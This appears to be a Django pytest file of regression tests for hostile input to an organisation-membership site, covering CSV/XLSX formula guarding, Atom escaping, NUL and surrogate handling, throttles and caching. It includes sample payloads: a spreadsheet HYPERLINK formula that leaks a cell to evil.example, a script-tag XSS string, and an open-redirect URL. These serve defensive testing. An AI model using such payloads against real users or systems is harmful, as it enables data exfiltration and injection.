"""Hostile input, round two: one test per class of finding, each named for what it protects.

The first round's corpus is ``test_hostile_input.py``; the property-based tests over every
filter, field and form are ``test_fuzz_api.py`` and ``test_fuzz_admin.py``.
"""

from __future__ import annotations

import datetime
import io
import json
import os
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
from pathlib import Path
from unittest import mock

import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.test import override_settings
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from orgs.admin.imports import MAX_IMPORT_ROWS, SafeCSV, SafeXLSX, SourceResource
from orgs.dates import PartialDate, PartialDateError
from orgs.models import Membership, Organization, Source
from orgs.spreadsheets import neutralised, unguarded
from tests.makers import make_country, make_membership, make_organization, make_source

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+1+1", "-2+3", "@SUM(A1)"]
POSTGRESQL = settings.DATABASES["default"]["ENGINE"].endswith("postgresql")


@pytest.fixture
def api():
    user = get_user_model().objects.create_superuser("api", "api@example.org", "x")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


@pytest.fixture
def atlas():
    sco = make_organization("sco", acronym="SCO", name="Shanghai Cooperation Organisation")
    belarus = make_country()
    spell = make_membership(sco, belarus, "2024-07-04")
    return sco, belarus, spell


# --- escaping outside HTML -------------------------------------------------------------------


def test_a_source_title_reaches_atom_readers_as_text_not_markup(client, atlas):
    _sco, _belarus, spell = atlas
    spell.citations.update(source=make_source("<script>alert(1)</script> <b>bold</b>"))
    response = client.get("/changes.atom")
    assert response.status_code == 200
    namespace = {"atom": "http://www.w3.org/2005/Atom"}
    summaries = ElementTree.fromstring(response.content).findall(".//atom:summary", namespace)
    shown = " ".join(summary.text or "" for summary in summaries)
    # The summary is HTML (type="html"): what a reader renders must be the escaped text.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
    assert "<script>" not in shown
    assert "<b>" not in shown


@pytest.mark.parametrize("value", FORMULAS)
def test_text_that_could_run_as_a_formula_is_guarded_and_read_back(value):
    assert neutralised(value) == "'" + value
    assert unguarded(neutralised(value)) == value
    assert neutralised(-3) == -3
    assert neutralised("-3.5") == "-3.5"
    assert neutralised("Belarus") == "Belarus"


def exported_sources():
    for number, title in enumerate(FORMULAS):
        make_source(title, key=f"formula-{number}")
    return SourceResource().export()


def test_the_admin_csv_export_guards_formulas():
    text = SafeCSV().export_data(exported_sources())
    for value in FORMULAS:
        assert f"'{value}" in text or json.dumps(f"'{value}") in text.replace('""', '\\"')
    assert not any(line.startswith(("=", "+", "@")) for line in text.splitlines())


def test_the_admin_xlsx_export_stores_formulas_as_text():
    book = openpyxl.load_workbook(io.BytesIO(SafeXLSX().export_data(exported_sources())))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert f"'{FORMULAS[0]}" in [cell.value for cell in cells]


def test_an_exported_guard_is_taken_off_again_on_import():
    dataset = SafeCSV().create_dataset(SafeCSV().export_data(exported_sources()))
    titles = dataset["title"]
    assert set(FORMULAS) <= set(titles)


def test_the_chart_data_csv_guards_formulas(client, atlas):
    _sco, _belarus, spell = atlas
    Membership.objects.filter(pk=spell.pk).update(qualifier=FORMULAS[0])
    text = client.get("/organizations/sco/timeline.csv").content.decode()
    assert f"'{FORMULAS[0]}" in text.replace('""', '"')


def test_the_api_csv_guards_formulas(client):
    for number, title in enumerate(FORMULAS):
        make_source(title, key=f"formula-{number}", is_published=True)
    text = client.get("/api/v1/sources/?format=csv").content.decode()
    for value in FORMULAS:
        assert f"'{value}" in text.replace('""', '"')
    assert "\r\n=" not in text
    assert "\r\n+" not in text


# --- values that were 500s ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/countries/by%00/",
        "/countries/?q=%00",
        "/search/?q=be%00",
        "/organizations/sco/?as_of=%00",
        "/api/v1/countries/?q=%00",
        "/api/v1/memberships/?member=%00",
        "/admin/orgs/source/?q=%00",
        "/admin/autocomplete/?app_label=orgs&model_name=membership&field_name=organization&term=%00",
    ],
)
def test_a_nul_in_an_address_answers_400_on_every_database(admin_client, atlas, path):
    response = admin_client.get(path)
    assert response.status_code == 400
    assert b"NUL" in response.content


@pytest.mark.parametrize(
    "body",
    [
        {"status": "\ud800"},
        {"start": "2024-\udc00"},
        {"start": {"date": "\ud800", "precision": "day"}},
        {"qualifier": "a\ud800b"},
        {"organization": "sco\x00"},
        {"\ud800": "key"},
    ],
)
def test_lone_surrogates_and_nul_in_json_answer_400(api, atlas, body):
    data = {"organization": "sco", "member_country": "BY", "status": "observer", "start": "2020"}
    data.update(body)
    raw = json.dumps(data, ensure_ascii=True).encode()
    before = Membership.objects.count()
    response = api.generic("POST", "/api/v1/memberships/", raw, "application/json")
    assert response.status_code == 400, response.content
    assert Membership.objects.count() == before


def test_a_linked_field_refuses_nul_from_a_form_body(api, atlas):
    """Form-encoded bodies skip the JSON parser; the field itself refuses NUL."""
    data = {
        "organization": "sco\x00",
        "member_country": "BY",
        "status": "observer",
        "start": "2020",
    }
    response = api.post("/api/v1/memberships/", data, format="multipart")
    assert response.status_code == 400


@pytest.mark.parametrize("text", ["9999", "9999-12", "9999-12-31", "≤9999-12-31", "0000"])
def test_partial_dates_stop_before_the_last_year_python_holds(text):
    with pytest.raises(PartialDateError, match="out of range"):
        PartialDate.parse(text)
    assert PartialDate.parse("9998-12-31").latest == datetime.date(9998, 12, 31)


def test_the_api_refuses_a_spell_ending_in_9999(api, atlas):
    _sco, _belarus, spell = atlas
    response = api.patch(f"/api/v1/memberships/{spell.pk}/", {"end": "9999-12-31"}, format="json")
    assert response.status_code == 400
    assert "out of range" in response.content.decode()


def test_pages_draw_a_spell_ending_in_year_9999_already_stored(client, atlas):
    """Data saved before the limit (or by a migration) must not take the charts down."""
    _sco, _belarus, spell = atlas
    Membership.objects.filter(pk=spell.pk).update(end=datetime.date(9999, 12, 31))
    for path in ["/organizations/sco/", "/countries/by/", "/organizations/sco/timeline.svg"]:
        assert client.get(path).status_code == 200, path


@pytest.mark.parametrize(
    "path",
    [
        "/admin/orgs/membership/abc/history/",
        "/admin/orgs/membership/{pk}/history/abc/",
        "/admin/orgs/membership/sco/history/compare/",
        "/admin/orgs/organization/1.5/history/",
        "/admin/orgs/source/-1/history/",
    ],
)
def test_admin_history_addresses_with_a_non_numeric_id_answer_404(admin_client, atlas, path):
    _sco, _belarus, spell = atlas
    response = admin_client.get(path.format(pk=spell.pk))
    assert response.status_code == 404


@pytest.mark.parametrize("debug", [False, True])
def test_a_post_without_the_trailing_slash_is_sent_on_with_its_body(api, atlas, debug):
    with override_settings(DEBUG=debug):
        response = api.post("/api/v1/sources?x=1", {"title": "t"}, format="json")
    assert response.status_code == 308
    assert response["Location"] == "/api/v1/sources/?x=1"


def test_an_unknown_format_answers_a_clear_4xx_naming_it(client, atlas):
    response = client.get("/api/v1/organizations/?format=xml")
    assert response.status_code in (400, 404, 406)
    assert "xml" in response.content.decode()


# --- validation gaps -------------------------------------------------------------------------------


def test_a_partial_date_with_an_unknown_precision_is_refused(api, atlas):
    _sco, _belarus, spell = atlas
    body = {"end": {"date": "2025-01-01", "precision": "century"}}
    response = api.patch(f"/api/v1/memberships/{spell.pk}/", body, format="json")
    assert response.status_code == 400
    assert "century" in response.content.decode()
    spell.refresh_from_db()
    assert spell.end is None


def test_a_citation_claim_field_must_be_a_fact_of_the_record(api, atlas):
    _sco, _belarus, spell = atlas
    source = make_source("Cited")
    body = {
        "claim_type": "membership",
        "claim_id": spell.pk,
        "source": source.pk,
        "claim_field": "anything at all",
    }
    response = api.post("/api/v1/citations/", body, format="json")
    assert response.status_code == 400, response.content
    assert "claim_field" in response.content.decode()


@pytest.mark.parametrize("name", ["Belarus\u202eSUR", "\u2066Belarus\u2069", "Bela\u200frus"])
def test_bidi_controls_are_taken_out_of_names(api, name):
    response = api.post("/api/v1/organizations/", {"slug": "org", "name": name}, format="json")
    assert response.status_code == 201, response.content
    assert Organization.objects.get(slug="org").name in {"BelarusSUR", "Belarus"}
    country = make_country("KZ", "KAZ", "Kazakhstan")
    country.name = "Kazakh\u202estan"
    country.full_clean()
    assert country.name == "Kazakhstan"


def test_a_slug_with_a_bidi_control_is_refused(api):
    response = api.post("/api/v1/organizations/", {"slug": "sco\u202e", "name": "X"}, format="json")
    assert response.status_code == 400


@pytest.mark.skipif(not POSTGRESQL, reason="the exclusion constraint is PostgreSQL's")
def test_racing_overlapping_creates_answer_the_forms_overlap_message(api, atlas):
    """Two creates both pass full_clean before either commits; the database refuses the second
    with its exclusion constraint, and the API says so in the admin's words, not the raw text."""
    real_full_clean = Membership.full_clean
    calls = []

    def first_check_misses_the_race(self, *args, **kwargs):
        calls.append(1)
        if len(calls) == 1:
            return None  # as if the other spell had not committed yet
        return real_full_clean(self, *args, **kwargs)

    body = {"organization": "sco", "member_country": "BY", "status": "observer", "start": "2025"}
    with mock.patch.object(Membership, "full_clean", first_check_misses_the_race):
        response = api.post("/api/v1/memberships/", body, format="json")
    assert response.status_code == 400, response.content
    text = response.content.decode()
    assert "overlaps another spell" in text
    assert "membership_no_overlapping_spells" not in text


def test_a_locked_sqlite_database_answers_503_saying_it_is_busy(client, atlas):
    from django.db import OperationalError

    with mock.patch(
        "orgs.pages.organizations.OrganizationListView.get",
        side_effect=OperationalError("database is locked"),
    ):
        response = client.get("/organizations/", HTTP_ACCEPT="text/html")
    assert response.status_code == 503
    assert "busy" in response.content.decode()
    assert response["Retry-After"] == "1"


def test_sqlite_waits_for_its_lock_and_takes_it_at_the_start_of_a_transaction():
    if POSTGRESQL:
        pytest.skip("SQLite's settings")
    options = settings.DATABASES["default"]["OPTIONS"]
    assert options["timeout"] >= 5
    assert options["transaction_mode"] == "IMMEDIATE"


def test_a_login_with_an_unsafe_next_lands_on_the_admin(client):
    get_user_model().objects.create_user("editor", password="right-password", is_staff=True)
    response = client.post(
        "/admin/login/?next=https://evil.example/",
        {"username": "editor", "password": "right-password", "next": "https://evil.example/"},
    )
    assert response.status_code == 302
    assert response["Location"] == "/admin/"


# --- throttles and the cache ----------------------------------------------------------------------


def test_forwarded_headers_do_not_mint_fresh_identities_for_the_api_throttle(client):
    rates = {**settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], "anon": "5/minute"}
    with override_settings(
        REST_FRAMEWORK={**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
    ):
        answers = [
            client.get(
                "/api/v1/organizations/",
                {"n": number % 3},
                HTTP_X_FORWARDED_FOR=f"10.0.{number}.1",
            ).status_code
            for number in range(12)
        ]
    assert 429 in answers, answers


def test_a_made_up_session_cookie_or_drafts_parameter_is_served_from_the_cache(client, atlas):
    """Only a signed-in staff member's session bypasses the cache (and sees drafts)."""
    assert client.get("/organizations/")["X-Atlas-Cache"] == "miss"
    client.cookies[settings.SESSION_COOKIE_NAME] = "made-up-session-key"
    assert client.get("/organizations/")["X-Atlas-Cache"] == "hit"
    del client.cookies[settings.SESSION_COOKIE_NAME]
    assert client.get("/organizations/?drafts=0")["X-Atlas-Cache"] == "miss"
    assert client.get("/organizations/?drafts=0")["X-Atlas-Cache"] == "hit"
    assert client.get("/organizations/?drafts=1")["X-Atlas-Cache"] == "miss"
    assert client.get("/organizations/?drafts=1")["X-Atlas-Cache"] == "hit"


def test_the_page_cache_keys_by_host(client, atlas):
    with override_settings(ALLOWED_HOSTS=["atlas.example", "mirror.example"]):
        assert client.get("/changes.atom", HTTP_HOST="atlas.example")["X-Atlas-Cache"] == "miss"
        other = client.get("/changes.atom", HTTP_HOST="mirror.example")
        assert other["X-Atlas-Cache"] == "miss"
        assert b"atlas.example" not in other.content


def test_a_host_not_allowed_is_refused_and_testserver_only_under_tests():
    env = {
        **{key: value for key, value in os.environ.items() if key != "DJANGO_SETTINGS_MODULE"},
        "TESTING": "0",
        "DEBUG": "0",
        "SECRET_KEY": "x" * 60,
        "DATABASE_URL": "",
        "REDIS_URL": "",
    }
    code = "from django.conf import settings as s; print(s.ALLOWED_HOSTS, s.SECURE_HSTS_SECONDS)"
    result = subprocess.run(
        [sys.executable, "manage.py", "shell", "-c", code],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert "testserver" not in result.stdout
    assert result.stdout.split()[-1] == str(365 * 24 * 60 * 60)


@override_settings(PAGE_THROTTLE_PER_MINUTE=3)
def test_page_misses_are_throttled_per_address_and_hits_are_free(client, atlas):
    for _ in range(5):
        assert client.get("/organizations/").status_code == 200  # one miss, then hits
    answers = [client.get(f"/organizations/?n={number}").status_code for number in range(4)]
    assert answers[:2] == [200, 200]
    assert answers[-1] == 429
    assert client.get("/organizations/", REMOTE_ADDR="198.51.100.9").status_code == 200


def test_a_token_answer_is_private_and_varies_on_authorization(api, atlas):
    response = api.get("/api/v1/organizations/")
    assert "private" in response["Cache-Control"]
    assert "Authorization" in response["Vary"]


# --- errors are logged -------------------------------------------------------------------------


# A view that fails, on an address of its own: nothing else runs that could fail first.
FORCED_ERROR = """
import sys, types
from django.test import Client, override_settings
from django.urls import path
def broken(request):
    raise RuntimeError("forced for the log test")
urls = types.ModuleType("forced_urls")
urls.urlpatterns = [path("boom/", broken)]
sys.modules["forced_urls"] = urls
with override_settings(ROOT_URLCONF="forced_urls"):
    response = Client(raise_request_exception=False).get("/boom/")
print("STATUS", response.status_code)
"""


def test_a_500_is_logged_to_stderr_with_its_traceback_when_debug_is_off(tmp_path):
    env = {
        **{key: value for key, value in os.environ.items() if key != "DJANGO_SETTINGS_MODULE"},
        "TESTING": "1",
        "DEBUG": "0",
        "SECRET_KEY": "x" * 60,
        "SECURE_SSL_REDIRECT": "0",
        "DATABASE_URL": f"sqlite:///{tmp_path / 'unused.sqlite3'}",
        "REDIS_URL": "",
    }
    result = subprocess.run(
        [sys.executable, "manage.py", "shell", "-c", FORCED_ERROR],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "STATUS 500" in result.stdout, result.stdout + result.stderr
    assert " ERROR django.request " in result.stderr
    assert "Traceback (most recent call last)" in result.stderr
    assert "RuntimeError: forced for the log test" in result.stderr


# --- imports -----------------------------------------------------------------------------------


def test_an_import_longer_than_a_request_can_preview_is_refused_with_a_sentence(admin_client):
    header = "title,kind\n"
    rows = "".join(f"Source {number},news_article\n" for number in range(MAX_IMPORT_ROWS + 1))
    upload = io.BytesIO((header + rows).encode())
    upload.name = "sources.csv"
    before = Source.objects.count()
    response = admin_client.post(
        "/admin/orgs/source/import/", {"import_file": upload, "format": "0", "resource": "0"}
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert f"{MAX_IMPORT_ROWS + 1:,} rows" in body
    assert "Split it into smaller files" in body
    assert Source.objects.count() == before


def test_a_key_past_any_databases_integers_is_an_invalid_choice_not_a_500(admin_client, atlas):
    """SQLite raised OverflowError on ``pk__in`` with it (PostgreSQL answered no match)."""
    sco, _belarus, _spell = atlas
    data = {
        "text": "Words.",
        "speaker_organization": sco.pk,
        "about_organizations": ["99999999999999999999999"],
        "said_on": "2024",
    }
    response = admin_client.post("/admin/orgs/quote/add/", data)
    assert response.status_code == 200
    assert "errorlist" in response.content.decode()
